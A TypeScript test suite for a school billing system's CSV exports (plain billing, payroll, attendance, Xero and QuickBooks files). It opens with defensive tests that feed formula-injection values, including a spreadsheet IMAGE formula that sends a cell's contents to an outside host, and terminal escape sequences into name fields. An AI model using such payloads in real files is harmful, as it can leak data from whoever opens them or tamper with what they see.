import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import type { ChargeLine } from '../../../src/core/billing/lesson/line.ts';
import { rowsOf, type FamilyBill, type Report } from '../../../src/core/reports/report.ts';
import {
  quickbooksBillColumns,
  quickbooksColumns,
  xeroBillColumns,
  xeroColumns,
} from '../../../src/render/csv/accounting-columns.ts';
import { accountingRows, type AccountingFile } from '../../../src/render/csv/accounting.ts';
import { csvChunks } from '../../../src/render/csv/csv.ts';
import { attendanceColumns, billingColumns, payrollColumns } from '../../../src/render/csv/plain.ts';
import { inFile } from '../../../src/text.ts';
import { billing, blockedLine, charge, correction, pay, payroll } from '../../support/statements.ts';

type Record = Readonly<{ [column: string]: string }>;

const billingCsv = (report: Report<FamilyBill>) => csvChunks(billingColumns, rowsOf(report));

function recordsOf(chunks: Iterable<string>): Record[] {
  return parse([...chunks].join(''), { columns: true, record_delimiter: '\r\n' });
}

function textCell(text: string): string {
  const csv = [...csvChunks([{ header: 'name', text: (name: string) => name }], [text])].join('');
  return (parse(csv, { record_delimiter: '\r\n' })[1] as string[])[0]!;
}

describe('a spreadsheet takes no name for a formula', () => {
  test.each([
    ['=IMAGE("http://example.com/?"&A1)', `'=IMAGE("http://example.com/?"&A1)`],
    ['+44 20 7946 0000', `'+44 20 7946 0000`],
    ['-1+1', `'-1+1`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `' =1+1`],
    ['\n=1+1', `'\n=1+1`],
    ['\tAna', `'\tAna`],
    [' =1+1', `' =1+1`],
    ['\u{200b}=1+1', `'\u{200b}=1+1`],
    ['\u{ff1d}1+1', `'\u{ff1d}1+1`],
    ["'=1+1", "'=1+1"],
    ['Ana = Silva', 'Ana = Silva'],
    ['Ana-Maria', 'Ana-Maria'],
  ])('%j', (name, cell) => {
    expect(textCell(name)).toBe(cell);
  });

  test('whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (name) => {
        const cell = textCell(name);
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        expect(cell.endsWith(inFile(name))).toBe(true);
      }),
    );
  });
});

test('a name in a file moves no cursor of who reads it in a terminal', () => {
  expect(textCell('\u001b[2JA\u009b1mna\u202e \u0007\tReis')).toBe('Ana \tReis');
  // What is left when it is gone may be a formula.
  expect(textCell('\u001b[1m=1+1')).toBe("'=1+1");
});

describe('the plain CSV', () => {
  test('has a row a line and correction, with plain decimals', () => {
    const rows = recordsOf(
      billingCsv(billing([charge({ flags: ['review', 'unapproved_overrun'] })], [correction({ amountMinor: -840 })])),
    );

    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      period: '2026-01',
      family_id: '1',
      name: 'Silva',
      currency: 'EUR',
      line_id: 'c5-3',
      date: '2026-01-16',
      start_time: '2026-01-16T16:00:00Z',
      student_name: 'Ana Silva',
      billed_minutes: '60',
      rate: '42.00',
      amount: '42.00',
      amount_minor: '4200',
      flags: 'review unapproved_overrun',
      adjustment_id: '',
    });
    expect(rows[1]).toMatchObject({
      line_id: 'c2-3',
      adjustment_id: 'a1-c2-3',
      closed_period: '2025-12',
      amount: '-8.40',
      rate: '',
    });
  });

  test('keeps names of every script, with commas, quotes and line breaks', () => {
    const subject = 'Élève, «Ωμέγα»\n"Жуков" 山田 🎓';
    const [row] = recordsOf(billingCsv(billing([charge({ subject })])));

    expect(row?.['subject']).toBe(subject);
  });

  test('ends every record with CRLF and starts without a byte order mark', () => {
    const plain = [...csvChunks(payrollColumns, rowsOf(payroll([pay()])))].join('');

    expect(plain.split('\r\n')).toHaveLength(3);
    expect(plain.startsWith('period,teacher_email,')).toBe(true);
  });

  test('says which share of the charge was paid, where no rate was', () => {
    const [header = '', row = ''] = [...csvChunks(payrollColumns, rowsOf(payroll([pay({ rate: null, percent: 60 })])))]
      .join('')
      .split('\r\n');
    const cell = (name: string) => row.split(',')[header.split(',').indexOf(name)];
    expect([cell('rate'), cell('rate_unit')]).toEqual(['60', 'percent']);
  });

  test('of an empty report is its header', () => {
    expect([...billingCsv(billing([]))].join('').split('\r\n')).toEqual([expect.stringContaining('line_id'), '']);
  });

  test('gives attendance by person and month', () => {
    const csv = csvChunks(attendanceColumns, [
      {
        personId: 3,
        email: 'ana@example.com',
        name: 'Ana',
        month: '2026-01',
        expected: 4,
        present: 2,
        late: 1,
        absent: 1,
        excused: 0,
        pending: 0,
        visited: 0,
        minutes: 178.5,
      },
    ]);

    expect([...csv].join('')).toBe(
      'month,email,name,expected,present,late,absent,excused,pending,visited,minutes\r\n' +
        '2026-01,ana@example.com,Ana,4,2,1,1,0,0,0,178.5\r\n',
    );
  });
});

describe('the CSV for accounting', () => {
  const issued: AccountingFile = {
    date: '2026-02-03',
    dueDate: '2026-02-17',
    draft: false,
    version: 1,
    accountCode: '200',
    taxType: null,
  };
  const invoices = (report: Report<FamilyBill>, changed: Partial<AccountingFile> = {}): Record[] =>
    recordsOf(csvChunks(xeroColumns, accountingRows(report, { ...issued, ...changed })));

  test('has one of each line at its whole amount, so that nobody rounds again', () => {
    const tax = { code: 'VAT', basisPoints: 2000, inclusive: true, per: 'line' } as const;
    const [row] = invoices(billing([charge({ billedMs: 3_400_000, amountMinor: 3967, tax, taxMinor: 661 })]));

    const filled = Object.fromEntries(Object.entries(row!).filter(([, value]) => value !== ''));
    expect(filled).toEqual({
      ContactName: 'Silva',
      EmailAddress: 'silva@example.com',
      InvoiceNumber: '2026-01-F1-EUR',
      Reference: '2026-01-F1-EUR',
      InvoiceDate: '2026-02-03',
      DueDate: '2026-02-17',
      Description: '2026-01-16 Algebra, Ana Silva, 56.67 min',
      Quantity: '1',
      UnitAmount: '39.67',
      AccountCode: '200',
      TaxType: 'VAT',
      TaxAmount: '6.61',
      Currency: 'EUR',
    });
  });

  test('has every column that Xero asks for, in its order', () => {
    expect(Object.keys(invoices(billing([charge()]))[0]!).join()).toBe(
      'ContactName,EmailAddress,POAddressLine1,POAddressLine2,POAddressLine3,POAddressLine4,POCity,PORegion,POPostalCode,' +
        'POCountry,InvoiceNumber,Reference,InvoiceDate,DueDate,Total,InventoryItemCode,Description,Quantity,UnitAmount,' +
        'Discount,AccountCode,TaxType,TaxAmount,TrackingName1,TrackingOption1,TrackingName2,TrackingOption2,Currency,' +
        'BrandingTheme',
    );
  });

  test('calls the tax as the school says, also where there is none', () => {
    const tax = { code: 'VAT', basisPoints: 2000, inclusive: true, per: 'line' } as const;
    const named = { accountCode: null, taxType: '20% (VAT on Income)' };
    expect(invoices(billing([charge({ tax })]), named)[0]).toMatchObject({ TaxType: '20% (VAT on Income)' });
    expect(invoices(billing([charge()]), named)[0]).toMatchObject({ TaxType: '20% (VAT on Income)', TaxAmount: '' });
    expect(invoices(billing([charge()]))[0]).toMatchObject({ TaxType: '' });
  });

  test('leaves tax on the whole statement to the accounts', () => {
    const tax = { code: 'GST', basisPoints: 1000, inclusive: false, per: 'statement' } as const;
    const [row] = invoices(billing([charge({ tax })]));

    expect(row).toMatchObject({ TaxType: 'GST', TaxAmount: '' });
  });

  test('keeps the tax of a line whose policy taxes lines, whatever a later policy does', () => {
    const tax = { code: 'GST', basisPoints: 1000, inclusive: false, per: 'line' } as const;
    const later = charge({ lineId: 'c6-3', tax: { ...tax, per: 'statement' } });
    const rows = invoices(billing([charge({ tax, taxMinor: 420 }), later]));

    expect(rows.map((row) => row['TaxAmount'])).toEqual(['4.20', '']);
  });

  test('takes a correction back with a line of its own', () => {
    const rows = invoices(billing([charge()], [correction({ amountMinor: -840, ms: -720_000 })]));

    expect(rows[1]).toMatchObject({
      Description: 'Correction: 2025-12-12 Algebra, ana@example.com, -12 min',
      Quantity: '1',
      UnitAmount: '-8.40',
      TaxType: '',
    });
  });

  test('of payroll adds up to the payout, not to the total', () => {
    const overpaid = correction({ side: 'pay', personId: 11, personEmail: 'tess@example.com', amountMinor: -4000 });
    const report = payroll([pay({ amountMinor: 2500 })], [overpaid], new Map([[11, new Map([['EUR', -100]])]]));
    const rows = recordsOf(csvChunks(xeroBillColumns, accountingRows(report, issued)));

    expect(rows.map((row) => row['UnitAmount'])).toEqual(['25.00', '-40.00', '-1.00', '16.00']);
    expect(rows[0]).toMatchObject({ ContactName: 'Tess Moreau', EmailAddress: 'tess@example.com' });
  });

  test('of pay is a file of bills, whose lines say what an invoice says in its reference', () => {
    const bills = (changed: Partial<AccountingFile>) =>
      recordsOf(csvChunks(xeroBillColumns, accountingRows(payroll([pay()]), { ...issued, ...changed })))[0]!;
    const first = bills({ accountCode: '477', taxType: 'Tax Exempt' });
    expect(Object.keys(first).join()).toBe(
      'ContactName,EmailAddress,POAddressLine1,POAddressLine2,POAddressLine3,POAddressLine4,POCity,PORegion,POPostalCode,' +
        'POCountry,InvoiceNumber,InvoiceDate,DueDate,Total,InventoryItemCode,Description,Quantity,UnitAmount,AccountCode,' +
        'TaxType,TaxAmount,TrackingName1,TrackingOption1,TrackingName2,TrackingOption2,Currency',
    );
    expect(first).toMatchObject({
      AccountCode: '477',
      TaxType: 'Tax Exempt',
      Description: '2026-01-16 Algebra, 60 min',
    });
    expect(bills({ version: 2 })['Description']).toBe('2026-01-16 Algebra, 60 min (version 2, replaces version 1)');
    expect(bills({ draft: true })).toMatchObject({
      InvoiceNumber: '',
      Description: '2026-01-16 Algebra, 60 min (DRAFT, not issued)',
    });
    const rows = accountingRows(payroll([pay()]), { ...issued, accountCode: '477' });
    expect(recordsOf(csvChunks(quickbooksBillColumns, rows))[0]).toMatchObject({
      BillNo: '2026-01-T11-EUR',
      Supplier: 'Tess Moreau',
      Account: '477',
      LineAmount: '22.00',
    });
  });

  test('of a version that replaces another keeps the number, and says so', () => {
    const [row] = invoices(billing([charge()]), { version: 2 });
    const Reference = '2026-01-F1-EUR, version 2, replaces version 1';
    expect(row).toMatchObject({ InvoiceNumber: '2026-01-F1-EUR', Reference });
  });

  describe('of a draft', () => {
    const open = charge({ lineId: 'c6-3', amountMinor: 0, flags: ['review_open'] });

    test('has no numbers, leaves out what is under review or without an amount, and says so in each row', () => {
      const report = { ...billing([charge(), open]), blocked: [blockedLine('charge')] };
      const rows = invoices(report, { draft: true });
      const Reference = 'DRAFT, not issued: 2 lines under review or without an amount left out';
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({ InvoiceNumber: '', Reference, UnitAmount: '42.00', DueDate: '2026-02-17' });
    });

    test('in which nothing is left says so too', () => {
      const [row] = invoices({ ...billing([]), blocked: [blockedLine('charge')] }, { draft: true });
      const left = 'DRAFT, not issued: 1 line under review or without an amount left out';
      expect(row).toMatchObject({ ContactName: 'DRAFT', InvoiceNumber: '', Description: left, UnitAmount: '' });
    });
  });

  describe('of QuickBooks', () => {
    const inQuickbooks = (report: Report<FamilyBill>, changed: Partial<AccountingFile> = {}): Record[] =>
      recordsOf(csvChunks(quickbooksColumns, accountingRows(report, { ...issued, ...changed })));

    test('has the columns that it knows by name', () => {
      const tax = { code: 'VAT', basisPoints: 2000, inclusive: false, per: 'line' } as const;
      expect(inQuickbooks(billing([charge({ tax, taxMinor: 840 })]))[0]).toEqual({
        InvoiceNo: '2026-01-F1-EUR',
        Customer: 'Silva',
        InvoiceDate: '2026-02-03',
        DueDate: '2026-02-17',
        Terms: '',
        Location: '',
        Memo: '2026-01-F1-EUR',
        'Item(Product/Service)': '200',
        ItemDescription: '2026-01-16 Algebra, Ana Silva, 60 min',
        ItemQuantity: '1',
        ItemRate: '42.00',
        ItemAmount: '42.00',
        ItemTaxCode: 'VAT',
        ItemTaxAmount: '8.40',
        Currency: 'EUR',
        'Service Date': '2026-01-16',
      });
    });

    test('has numbers of at most 21 characters, and the subject where there is no account', () => {
      const spanning = { ...billing([charge()]), period: '2026-01-05..2026-01-18' };
      const [row] = inQuickbooks(spanning, { accountCode: null });
      expect(row).toMatchObject({ InvoiceNo: '20260105-0118-F1-EUR', 'Item(Product/Service)': 'Algebra' });
      const [far] = inQuickbooks({
        ...spanning,
        statements: spanning.statements.map((one) => ({ ...one, familyId: 1234 })),
      });
      expect(far).toMatchObject({ InvoiceNo: '202601050118F1234EUR', Memo: '2026-01-05..2026-01-18-F1234-EUR' });
    });
  });
});

test('ten thousand lines are read no further ahead than a chunk', () => {
  const [line] = billing([charge()]).statements[0]!.lines;
  let read = 0;
  function* lines() {
    for (; read < 10_000; read += 1) yield { ...line!, lineId: `c${read}-3` };
  }
  const columns = [
    { header: 'line_id', text: ({ lineId }: ChargeLine) => lineId },
    { header: 'amount_minor', number: ({ amountMinor }: ChargeLine) => amountMinor },
  ];
  let chunks = 0;
  let records = -1;
  let longest = 0;
  for (const chunk of csvChunks(columns, lines())) {
    records += chunk.split('\r\n').length - 1;
    longest = Math.max(longest, chunk.length);
    expect(read - records).toBeLessThanOrEqual(500);
    chunks += 1;
  }

  expect(records).toBe(10_000);
  expect(chunks).toBe(21);
  expect(longest).toBeLessThan(10_000);
});
